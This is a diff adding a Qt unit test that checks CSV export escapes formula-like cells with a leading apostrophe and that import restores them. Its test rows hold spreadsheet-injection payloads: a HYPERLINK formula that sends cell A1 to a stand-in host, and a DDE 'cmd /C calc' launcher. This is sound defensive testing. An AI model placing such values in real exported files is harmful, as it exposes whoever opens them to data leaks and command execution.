@@ -160,6 +160,63 @@ private slots:
                  (std::vector<int>{2, 3}));
     }
 
+    // A text a spreadsheet would run as a formula is written with a leading apostrophe, which
+    // import takes away again; numbers and money stay numbers.
+    void formulaCells_data()
+    {
+        QTest::addColumn<int>("column");
+        QTest::addColumn<QVariant>("value");
+        QTest::addColumn<QByteArray>("cell");
+        const auto text = [](const char *s) { return QVariant(QString::fromUtf8(s)); };
+        const std::tuple<const char *, int, QVariant, const char *> rows[] = {
+            {"hyperlink in the name", int(Column::ItemDesc), text("=HYPERLINK(\"http://x/?\"&A1,\"click\")"),
+             "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\""},
+            {"command in the number", int(Column::ItemNum), text("+cmd|' /C calc'!A0"),
+             "'+cmd|' /C calc'!A0"},
+            {"function in the invoice", int(Column::InvNum), text("@SUM(A1:A9)"), "'@SUM(A1:A9)"},
+            {"minus in the vendor", int(Column::Vendor), text("-2+3"), "'-2+3"},
+            {"leading tab", int(Column::ItemDesc), text("\t=1"), "'\t=1"},
+            {"leading carriage return", int(Column::ItemDesc), text("\r=1"), "\"'\r=1\""},
+            {"picture path", int(Column::Image), text("=cmd"), "'=cmd"},
+            {"apostrophe already there", int(Column::Vendor), text("'=1"), "''=1"},
+            {"plain apostrophe untouched", int(Column::Vendor), text("'quoted'"), "'quoted'"},
+            {"minus inside untouched", int(Column::ItemNum), text("A-1"), "A-1"},
+            {"negative cost stays a number", int(Column::ItemCst),
+             QVariant::fromValue(*Money::parse(QStringLiteral("-3.5"))), "-3.5"},
+            {"negative count stays a number", int(Column::ItemCnt), QVariant(qlonglong(-5)), "-5"},
+        };
+        for (const auto &[name, column, value, cell] : rows)
+            QTest::newRow(name) << column << value << QByteArray(cell);
+    }
+    void formulaCells()
+    {
+        QFETCH(int, column);
+        QFETCH(QVariant, value);
+        QFETCH(QByteArray, cell);
+        TestFolder folder;
+        ItemRow row = makeRow(QStringLiteral("Bolt"), QStringLiteral("B-1"), 3, QStringLiteral("1.25"),
+                              QStringLiteral("Acme"), QStringLiteral("2024-03-07"), QStringLiteral("INV-9"));
+        row.setValue(static_cast<Column>(column), value);
+        row.totItemCst.reset();
+        const QString path = folder.file(QStringLiteral("formulas.csv"));
+        exportItemsCsv({row}, path);
+        const QByteArray written = fileBytes(path);
+        // The data line holds the cell exactly, between delimiters.
+        const QByteArray data = written.mid(written.indexOf('\n') + 1);
+        QVERIFY2(data.startsWith(cell + ',') || data.contains(',' + cell + ',') ||
+                     data.contains(',' + cell + "\r\n"),
+                 data.constData());
+        ItemRecordSet rs(folder.databasePath());
+        rs.open();
+        ScriptedPrompts prompts;
+        CsvTransfer importer(rs, {{}, acceptWhenReady(), {}});
+        QVERIFY(importer.importPath(path));
+        QCOMPARE(rs.recordCount(), 1);
+        // Every value back as it was (the total is left to the store).
+        for (const ColumnInfo &c : kColumns)
+            if (c.column != Column::TotItemCst) QCOMPARE(rs.row(0).value(c.column), row.value(c.column));
+    }
+
     // Files made by spreadsheets: what is stored, or every problem as row:column:text:why.
     void spreadsheetFiles_data()
     {
